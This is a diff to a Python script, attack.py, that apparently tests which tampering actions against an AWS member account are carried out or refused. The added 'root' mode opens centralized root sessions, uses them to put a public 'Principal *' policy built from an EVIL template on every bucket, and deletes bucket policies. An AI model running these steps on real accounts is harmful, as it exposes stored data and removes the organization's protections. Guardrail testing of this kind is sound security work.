@@ -1,9 +1,10 @@
 """Does in an account what its administrator would do to blind whoever watches it, one way after the other.
 
-usage: attack.py ACCOUNT [changes|removes]
+usage: attack.py ACCOUNT [changes|removes|root]
 
 The administrator is a role of the account that the access role makes, as nobody minds. Each way is told as done or refused.
 `changes` leaves out those that take away what others change, `removes` tries those alone; neither leaves the organization.
+`root` tries what a session of the account's root user can do, which the management account opens.
 """
 
 import json
@@ -345,10 +346,49 @@ def settings(account, session):
     )
 
 
+def root_user(account):
+    """What the privileged tasks on buckets do, opened for the account by centralized root access."""
+    organizations, iam = world.client("organizations"), world.client("iam")
+    organizations.enable_aws_service_access(ServicePrincipal="iam.amazonaws.com")
+    iam.enable_organizations_root_sessions()
+    task = {
+        "TargetPrincipal": account,
+        "TaskPolicyArn": {"arn": "arn:aws:iam::aws:policy/root-task/S3UnlockBucketPolicy"},
+    }
+    own = administrator(account)
+    mine = own.client("s3")
+    mine.create_bucket(
+        Bucket=f"mine-{account}", CreateBucketConfiguration={"LocationConstraint": HOME}
+    )
+    yield "open such a session oneself", lambda: own.client("sts").assume_root(**task)
+    keys = world.client("sts", HOME).assume_root(**task)["Credentials"]
+    s3 = boto3.client(
+        "s3",
+        region_name=HOME,
+        aws_access_key_id=keys["AccessKeyId"],
+        aws_secret_access_key=keys["SecretAccessKey"],
+        aws_session_token=keys["SessionToken"],
+    )
+    for bucket in sorted(one["Name"] for one in s3.list_buckets()["Buckets"]):
+        told = bucket.replace(account, "ACCOUNT")
+        policy = json.loads(EVIL)
+        policy["Statement"][0] |= {"Principal": "*", "Resource": f"arn:aws:s3:::{bucket}/*"}
+        yield f"open {told}", lambda bucket=bucket, policy=policy: s3.put_bucket_policy(
+            Bucket=bucket, Policy=json.dumps(policy)
+        )
+        yield f"keep AWS out of {told}", lambda bucket=bucket: s3.delete_bucket_policy(
+            Bucket=bucket
+        )
+    yield "delete what is no policy", lambda: s3.delete_bucket(Bucket=f"mine-{account}")
+    mine.delete_bucket(Bucket=f"mine-{account}")
+    organizations.disable_aws_service_access(ServicePrincipal="iam.amazonaws.com")
+
+
 def main(name, tried="all"):
     account = world.accounts()[name]
-    for told, act, *kind in ways(name, account, administrator(account)):
-        if tried not in ("all", *(kind or ["changes"])):
+    tries = root_user(account) if tried == "root" else ways(name, account, administrator(account))
+    for told, act, *kind in tries:
+        if tried not in ("all", "root", *(kind or ["changes"])):
             continue
         try:
             act()
